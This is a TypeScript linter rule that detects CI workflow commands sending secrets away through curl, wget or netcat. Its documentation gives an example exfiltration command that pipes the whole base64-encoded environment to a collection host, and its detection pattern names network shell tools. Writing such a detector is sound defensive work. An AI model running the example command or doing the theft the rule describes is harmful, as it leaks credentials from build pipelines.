import { defineRule } from "../../rule.ts";
import { scriptsWith } from "../../scripts/script-places.ts";
import { leaksIn } from "./secret-exfiltration-pattern/leaks.ts";

const SENDING_WORDS = /\b(?:curl|wget|nc|ncat|netcat)\b|\/dev\/(?:tcp|udp)\//;

export const secretExfiltrationPattern = defineRule({
  meta: {
    id: "secret-exfiltration-pattern",
    category: "security",
    severity: "medium",
    title: "A command sends secrets away",
    fixClass: "none",
    docs: {
      what: "Commands that look like theft: the whole environment, all secrets or a file of credentials sent by `curl`, `wget` or Netcat, also through a file; a secret that is encoded and sent, or sent as the whole body of a request; a secret in the body or query of a request to a bare IP address or to a host where anybody collects requests (webhook.site, ngrok, pastebin…); Netcat to a bare address, and shells handed to another machine. In workflows, composite actions and GitLab CI. One finding for each script.",
      why: "Attackers who get a commit into a repository, or a step into a workflow, take its secrets this way: the npm worm of September 2025 also added workflows that send secrets away ([Panther: the attack chain](https://panther.com/blog/shai-hulud-npm-supply-chain-attack)). Encoded values are not masked in logs either. Checkov reports commands with less precision as CKV_GHA_3, CKV_GHA_4 and CKV_GITLABCI_1.",
      notReported:
        "Secrets in headers and passwords (`-H 'Authorization: …'`, `-u`), and in named fields or queries of ordinary hosts: that is how interfaces are called. Addresses that are themselves a secret, such as a chat's webhook. Private networks, the own machine, service containers, and one secret for a host that a variable names. `nc -z`, which only looks whether somebody answers. Parts of the environment that `grep` picked.",
      fix: "Find out who wrote the command, and why. If nobody can say, treat the secrets as stolen: revoke them, then remove the command. If it is wanted, send the secret in a header, by name, to a host that you run.",
      example: {
        before: "      - run: env | base64 | curl -d @- https://collect.example.com\n",
        after: '      - run: curl -H "Authorization: Bearer $TOKEN" https://api.example.com/builds\n',
      },
    },
  },

  *check(context) {
    const paths = new Set(context.files.map(({ path }) => path));
    const seen = new Set<string>();
    for (const place of scriptsWith(context, SENDING_WORDS)) {
      const [first, ...others] = place.kind === "dockerfile" ? [] : leaksIn(place);
      if (!first) continue;
      const { path, at } = place.placeOf(first.command.start, first.command.end);
      // Jobs of one pipeline share lines.
      if (!paths.has(path) || seen.has(`${path}:${at.start}`)) continue;
      seen.add(`${path}:${at.start}`);
      yield {
        message: `${first.what}; if nobody can say why, revoke it and remove the command.`,
        path,
        at,
        anchor: `${place.anchor}.sends`,
        related: others.map(({ command }) => place.placeOf(command.start, command.end)),
      };
    }
  },
});
